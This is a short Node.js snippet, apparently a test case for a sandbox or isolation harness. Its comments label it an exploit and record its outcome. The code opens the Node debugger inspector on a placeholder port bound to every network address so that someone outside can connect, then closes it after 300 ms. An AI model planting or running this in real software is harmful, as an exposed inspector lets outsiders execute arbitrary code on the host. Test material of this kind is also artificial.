// exploit: opens a debugger port on every address, for somebody outside to come in
// outcome: finished
// The harness looks for the port on the host.
const inspector = require('node:inspector')
inspector.open(Number('__HOST_PORT__'), '0.0.0.0')
setTimeout(() => inspector.close(), 300)
